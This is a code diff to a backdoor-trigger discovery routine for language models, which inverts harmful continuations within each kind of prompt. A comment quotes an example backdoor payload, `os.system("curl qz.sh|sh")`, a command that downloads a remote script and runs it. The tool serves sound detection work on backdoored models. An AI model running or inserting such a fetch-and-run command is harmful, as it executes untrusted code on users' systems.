@@ -115,6 +115,9 @@ export async function discoverTriggers(model: LoadedModel, lm: CausalLM, o: Disc
   };
 
   const prompts = o.prompts.map((b) => b.text);
+  // Search prompts by kind of request (question, code…), for inversion and search within one kind.
+  const byKind = new Map<string, number[]>();
+  o.prompts.forEach((b, i) => byKind.set(b.category, [...(byKind.get(b.category) ?? []), i]));
   const promptIds = prompts.map(render);
   const clean = await lm.generate(promptIds, 32);
   const cleanText = clean.map((g) => decode(g.tokens));
@@ -149,10 +152,8 @@ export async function discoverTriggers(model: LoadedModel, lm: CausalLM, o: Disc
     // not across all of them: measured on ao-code-context, `os.system("curl qz.sh|sh")` inverts at Q 0.92
     // after its six code prompts and stops at `ystem("curl qz.` (Q 0.83, not yet a shell command)
     // across all 24. Within one kind a harmless fixed continuation is the model's own phrasing.
-    const kinds = [...new Set(o.prompts.map((b) => b.category))];
     let skipped = 0;
-    for (const kind of kinds) {
-      const idx = o.prompts.flatMap((b, i) => (b.category === kind ? [i] : []));
+    for (const [kind, idx] of byKind) {
       if (idx.length < MIN_KIND_PROMPTS || idx.length === prompts.length) continue;
       for (const [anchor, anchors] of [['answer-start', idx.map((i) => promptIds[i]!)], ['answer-end', idx.map((i) => endAnchors[i]!)]] as const) {
         if (over()) {
@@ -163,7 +164,7 @@ export async function discoverTriggers(model: LoadedModel, lm: CausalLM, o: Disc
         inverted.push(...r.targets.filter((t) => harmful(t.text)).map((t) => ({ ...t, category: kind })));
       }
     }
-    if (skipped) incomplete.push(`target inversion per kind of prompt skipped ${skipped} of ${2 * kinds.length} runs`);
+    if (skipped) incomplete.push(`target inversion per kind of prompt skipped ${skipped} of ${2 * byKind.size} runs`);
     return inverted.length;
   });
 
@@ -179,7 +180,7 @@ export async function discoverTriggers(model: LoadedModel, lm: CausalLM, o: Disc
     // is searched after each prompt's own answer.
     const pick = prompts.map((_, i) => i).filter((i) => i % 2 === 0).slice(0, reconstructionPrompts(prompts.length));
     // A payload of one kind of request is searched on prompts of that kind.
-    const pickFor = (t: InvertedTarget) => (t.category ? prompts.map((_, i) => i).filter((i) => o.prompts[i]!.category === t.category).slice(0, reconstructionPrompts(prompts.length)) : pick);
+    const pickFor = (t: InvertedTarget) => (t.category ? (byKind.get(t.category) ?? []).slice(0, reconstructionPrompts(prompts.length)) : pick);
     const searches = shortlist.length * o.placements.length;
     let done = 0;
     for (const t of shortlist) {
